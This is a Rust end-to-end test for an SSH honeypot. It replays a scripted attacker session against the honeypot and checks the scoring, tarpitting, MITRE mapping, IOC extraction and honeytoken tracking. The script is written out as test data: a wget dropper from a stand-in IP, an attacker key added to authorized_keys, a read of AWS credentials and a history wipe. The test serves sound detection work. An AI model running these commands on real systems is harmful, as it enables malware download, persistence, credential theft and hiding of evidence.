//! End to end, detection: a scripted attacker session over the real OpenSSH client (dropper,
//! SSH key persistence, history wipe, honeytoken read), then a second login with a stolen
//! token, checked in SQLite, in the JSON log and in the per-session JSON file.

use std::collections::HashSet;

use miragepot_event::{Event, EventKind, RiskBand, TokenAction, TokenKind};

use crate::util::{Server, ssh_cmd, ssh_pty};

const SCRIPT: &str = "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh
cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh
cat ~/.aws/credentials
history -c; rm -f ~/.bash_history
exit
";

fn of<'a>(events: &'a [Event], kind: &str) -> Vec<&'a Event> {
    events.iter().filter(|e| e.type_name() == kind).collect()
}

#[test]
fn a_dropper_session_is_scored_tarpitted_mapped_and_linked() {
    // Small tarpit bands keep the test quick; they also exercise the config override.
    let mut s = Server::start_with(&[(
        "MIRAGEPOT_DETECT_TARPIT_BANDS",
        "[{min_score = 40, min_ms = 20, max_ms = 30}, {min_score = 80, min_ms = 40, max_ms = 50}]",
    )]);
    let out = ssh_pty(&s, SCRIPT);
    assert!(out.contains("aws_access_key_id = AKIA"), "{out}");

    // The history password planted in that session, taken from the JSON log.
    let json = s.json_events();
    let planted = json
        .iter()
        .find(|e| e["type"] == "honeytoken_planted")
        .expect("tokens planted");
    let history_pw = planted["tokens"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["token"] == "history_password")
        .unwrap()["value"]
        .as_str()
        .unwrap()
        .to_string();
    // A second login uses it as a password.
    let status = ssh_cmd(&s, "admin", &history_pw)
        .arg("true")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(status.status.success());
    s.stop();

    let rt = tokio::runtime::Runtime::new().unwrap();
    let (first, second) = rt.block_on(async {
        let store = miragepot_store::Store::open(&s.db_url()).await.unwrap();
        let rows = store.sessions(10, 0).await.unwrap();
        assert_eq!(rows.len(), 2);
        // Newest first.
        let second = store.session_events(rows[0].session).await.unwrap();
        let first = store.session_events(rows[1].session).await.unwrap();
        (first, second)
    });

    // Threat scores on the command events, and the tarpit's delays behind them.
    let inputs = of(&first, "command_input");
    let scores: Vec<u32> = inputs
        .iter()
        .map(|e| match &e.kind {
            EventKind::CommandInput { threat_score, .. } => *threat_score,
            _ => 0,
        })
        .collect();
    assert!(scores[0] >= 40 && scores[1] >= 40, "{scores:?}");
    let delays = of(&first, "delay_applied");
    assert!(delays.len() >= 2, "{delays:?}");
    for d in &delays {
        let EventKind::DelayApplied(d) = &d.kind else {
            unreachable!()
        };
        assert!((20..=50).contains(&d.delay_ms), "{d:?}");
    }
    let input_ids: HashSet<_> = inputs.iter().map(|e| e.id).collect();
    assert!(
        delays
            .iter()
            .all(|d| input_ids.contains(&d.caused_by.unwrap()))
    );

    // Techniques, each linked to an event of the session.
    let ids: HashSet<_> = first.iter().map(|e| e.id).collect();
    let techniques: HashSet<String> = of(&first, "technique")
        .iter()
        .map(|e| {
            assert!(ids.contains(&e.caused_by.expect("linked")));
            let EventKind::Technique(t) = &e.kind else {
                unreachable!()
            };
            t.technique.clone()
        })
        .collect();
    for want in [
        "T1078.001",
        "T1059.004",
        "T1105",
        "T1222.002",
        "T1098.004",
        "T1552.001",
        "T1070.003",
    ] {
        assert!(techniques.contains(want), "{want} not in {techniques:?}");
    }
    let stages: Vec<String> = of(&first, "attack_stage")
        .iter()
        .map(|e| match &e.kind {
            EventKind::AttackStage(s) => s.stage.clone(),
            _ => unreachable!(),
        })
        .collect();
    for want in [
        "initial_access",
        "execution",
        "persistence",
        "defense_evasion",
        "command_and_control",
    ] {
        assert!(
            stages.contains(&want.to_string()),
            "{want} not in {stages:?}"
        );
    }

    // IOCs: the URL (defanged), its address, the file name.
    let iocs: Vec<(String, String)> = of(&first, "ioc")
        .iter()
        .map(|e| match &e.kind {
            EventKind::Ioc(i) => (i.value.clone(), i.defanged.clone()),
            _ => unreachable!(),
        })
        .collect();
    assert!(iocs.contains(&(
        "http://203.0.113.5/bins.sh".into(),
        "hxxp://203.0.113[.]5/bins.sh".into()
    )));
    assert!(iocs.iter().any(|(v, _)| v == "203.0.113.5"));
    assert!(iocs.iter().any(|(v, _)| v == "bins.sh"));

    // The token read.
    let touched: Vec<_> = of(&first, "honeytoken_touched")
        .iter()
        .map(|e| match &e.kind {
            EventKind::HoneytokenTouched(t) => (t.token, t.action),
            _ => unreachable!(),
        })
        .collect();
    assert!(
        touched.contains(&(TokenKind::AwsKey, TokenAction::Read)),
        "{touched:?}"
    );

    // The summary, the address's profile, and the session file.
    let summary = of(&first, "session_summary");
    let EventKind::SessionSummary(sum) = &summary[0].kind else {
        unreachable!()
    };
    assert_eq!(sum.risk_band, RiskBand::Critical, "{sum:?}");
    assert_eq!(sum.tokens_touched, 1);
    assert_eq!(sum.downloads, 1);
    assert_eq!(sum.commands, 5);
    assert!(sum.delay_ms >= 40);
    assert_eq!(sum.stage.as_deref(), Some("command_and_control"));
    assert_eq!(sum.input.writes, 5, "one read per typed line: {sum:?}");
    assert_eq!(sum.login_attempts, 1, "the `none` probe is not a guess");
    assert!(!techniques.contains("T1110.001"));
    assert_eq!(of(&first, "ip_profile").len(), 1);
    assert_eq!(first.last().unwrap().type_name(), "session_end");
    let file = s
        .data
        .path()
        .join(format!("logs/session_{}.json", first[0].session.simple()));
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(doc["attacker_ip"], "127.0.0.1");
    assert_eq!(doc["commands"].as_array().unwrap().len(), 5);
    assert!(doc["commands"][0]["delay_applied"].as_f64().unwrap() > 0.0);

    // The second session is linked to the first by the reused token.
    let reused = of(&second, "token_reused");
    let EventKind::TokenReused(r) = &reused[0].kind else {
        unreachable!()
    };
    assert_eq!(r.planted_session, first[0].session);
    assert_eq!(r.token, TokenKind::HistoryPassword);
    assert_eq!(r.via, "password");

    // Offline: `reanalyze` finds the same techniques again from the stored events, and
    // `report` profiles the address.
    let run = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_miragepot"))
            .args(args)
            .env("MIRAGEPOT_SENSOR_DATA_DIR", s.data.path())
            .env_remove("MIRAGEPOT_CONFIG")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let session = first[0].session.to_string();
    let (out, err) = run(&["reanalyze", "--session", &session]);
    let again: HashSet<String> = out
        .lines()
        .map(|l| serde_json::from_str::<Event>(l).unwrap())
        .filter_map(|e| match e.kind {
            EventKind::Technique(t) => Some(t.technique),
            _ => None,
        })
        .collect();
    assert_eq!(again, techniques, "{err}");
    assert!(err.contains("reanalyzed 1 sessions"), "{err}");
    assert!(out.contains("\"type\":\"session_summary\""));
    let reports = s.data.path().join("reports");
    let (out, _) = run(&["report", "--out", reports.to_str().unwrap()]);
    assert!(out.contains("2 sessions, 1 addresses"), "{out}");
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(reports.join("report.json")).unwrap()).unwrap();
    assert_eq!(report["profiles"][0]["ip"], "127.0.0.1");
    let md = std::fs::read_to_string(reports.join("report.md")).unwrap();
    assert!(md.contains("127.0.0.1"), "{md}");

    // The JSON log holds the same detections as the store.
    let json_ids: HashSet<String> = s
        .json_events()
        .iter()
        .map(|e| e["id"].as_str().unwrap().to_string())
        .collect();
    for e in first.iter().chain(&second) {
        assert!(
            json_ids.contains(&e.id.to_string()),
            "{} missing",
            e.type_name()
        );
    }
}
